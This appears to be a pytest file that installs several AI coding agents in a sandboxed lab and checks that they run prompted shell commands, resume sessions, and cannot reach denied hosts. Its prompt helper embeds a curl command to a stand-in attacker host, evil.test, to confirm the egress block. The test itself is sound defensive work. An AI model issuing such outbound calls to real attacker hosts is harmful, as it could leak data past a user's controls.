"""The published agents, installed as people install them, against scripted model APIs: see tests/lab/models.py for what the model does."""
import contextlib
import json
import os

import pytest

from expect import denied, allowed, NOT_LISTED
from lab import PATH
from npm import agents_folder, needed, nvm_bin

KEY = "sk-ant-lab-key"
DENIED = "11.66.0.2"  # evil.test

# What each keeps of a sign-in with an API key, in the home; how it runs a prompt, in a new session and in the last one; its API.
AGENTS = {
    "codex": dict(sign_in={".codex/auth.json": {"OPENAI_API_KEY": KEY}}, api="api.openai.com",
                  new=["exec", "--skip-git-repo-check"], again=["exec", "--skip-git-repo-check", "resume", "--last"]),
    "claude": dict(sign_in={".claude/settings.json": {"env": {"ANTHROPIC_API_KEY": KEY}, "sandbox": {"enabled": True}}}, api="api.anthropic.com",
                   new=["-p", "--allowedTools=Bash"], again=["-p", "--continue", "--allowedTools=Bash"]),
    "gemini": dict(sign_in={".gemini/.env": "GEMINI_API_KEY=" + KEY, ".gemini/settings.json": {"security": {"auth": {"selectedType": "gemini-api-key"}}}},
                   api="generativelanguage.googleapis.com", new=["--skip-trust", "--yolo", "-p"], again=["--skip-trust", "--yolo", "--resume", "latest", "-p"]),
    "opencode": dict(sign_in={".local/share/opencode/auth.json": {"anthropic": {"type": "api", "key": KEY}}}, api="api.anthropic.com",
                     new=["run", "-m", "anthropic/claude-sonnet-4-5"], again=["run", "--continue", "-m", "anthropic/claude-sonnet-4-5"]),
}


class Machine:
    """The lab's host with the agents in the home of whoever acts, and an authority that the system's certificates vouch for."""

    def __init__(self, lab, layout):
        self.lab, self.mounted = lab, []
        with needed():
            folder = agents_folder()
        place, bin_folder = {"prefix": (".npm-global", "bin"), "nvm": (".nvm", nvm_bin(folder))}[layout]
        self.mount(os.path.join(folder, layout), lab.path("home", place))
        # Node.js has a list of authorities of its own; whoever has more of them sets this variable.
        self.env = {"PATH": ":".join([lab.path("home", place, bin_folder), PATH]), "NODE_EXTRA_CA_CERTS": "/etc/ssl/certs/ca-certificates.crt"}

    def mount(self, source, target):
        os.makedirs(target, exist_ok=True)
        self.own(target)
        r = self.lab.host(["mount", "--bind", source, target])
        assert r.code == 0, r
        self.mounted.append(target)

    def own(self, path):
        home = os.stat(self.lab.path("home"))
        while os.getuid() == 0 and path.startswith(self.lab.path("home") + "/"):
            os.lchown(path, home.st_uid, home.st_gid)
            path = os.path.dirname(path)

    def sign_in(self, agent):
        """On the host, as the agent itself would; then take it over."""
        for name, content in AGENTS[agent]["sign_in"].items():
            path = self.lab.path("home", name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(content if isinstance(content, str) else json.dumps(content))
            self.own(path)
        r = self.lab.ak(["agents", "import", agent])
        assert r.code == 0, r

    def start(self, agent, words, prompt):
        return self.lab.spawn([self.lab.binary, agent, *words, prompt], env=self.lab.env(**self.env))

    def close(self):
        while self.mounted:
            self.lab.host(["umount", self.mounted.pop()])


@contextlib.contextmanager
def machine_for(lab, who, layout):
    with lab.acting_as(who), lab.trusted():
        machine = Machine(lab, layout)
        try:
            yield machine
        finally:
            machine.close()


def prompt(mark):
    """Writes a file in the project and tries a host that is denied."""
    return "please [[%s|echo %s > %s.txt; curl -sS --max-time 20 https://evil.test/%s; echo curl said $?]]" % (mark, mark, mark, mark)


def finished(lab, r, mark, *seen):
    """The agent has ended well, its command has run, and the model saw the prompts SEEN before this one."""
    assert r.code == 0 and "seen: " + " ".join([*seen, mark]) + "\n" in r.out, (r, lab.internet(op="models"))
    with open(lab.path("project", mark + ".txt")) as f:
        assert f.read() == mark + "\n"


def results(lab, mark):
    """What the model was told of MARK's command."""
    return [m["result"] for m in lab.internet(op="models") if m.get("result") and (m.get("marks") or [""])[-1] == mark]


@pytest.mark.xdist_group("agents")
@pytest.mark.parametrize("agent", AGENTS)
def test_an_agent_works_by_its_name_also_two_at_once_and_goes_on_where_it_was(lab, agent):
    row = AGENTS[agent]
    with machine_for(lab, "root" if lab.is_root else "user", "prefix") as machine:
        machine.sign_in(agent)
        finished(lab, machine.start(agent, row["new"], prompt("one")).wait(180), "one")
        assert "curl said 6" in results(lab, "one")[0], results(lab, "one")
        log = lab.netlog()
        denied(log, NOT_LISTED, event="dns", name="evil.test", qtype="A")
        allowed(log, name=row["api"], proto="tcp")
        both = [machine.start(agent, row["new"], prompt(mark)) for mark in ("left", "right")]
        for mark, proc in zip(("left", "right"), both):
            finished(lab, proc.wait(180), mark)
        r = machine.start(agent, row["again"], prompt("two")).wait(180)
        finished(lab, r, "two", "left" if "seen: left" in r.out else "right")
        assert lab.arrived(DENIED) == 0 and not lab.dns.log("evil.test")


@pytest.mark.xdist_group("agents")
@pytest.mark.parametrize("agent", AGENTS)
def test_an_agent_below_a_node_of_nvm_works_with_an_api_key_of_the_environment(lab, agent):
    row, key = AGENTS[agent], {"codex": "CODEX_API_KEY", "gemini": "GEMINI_API_KEY"}.get(agent, "ANTHROPIC_API_KEY")
    with machine_for(lab, "user", "nvm") as machine:
        ask = "please [[nvm|command -v node; echo nvm > nvm.txt]]"
        r = lab.run(["--compatibility-mode", agent, "--pass-api-key", "--", agent, *row["new"], ask], env=dict(machine.env, **{key: KEY}), timeout=180)
        finished(lab, r, "nvm")
        assert "/home/.nvm/versions/node/v" in results(lab, "nvm")[0], results(lab, "nvm")
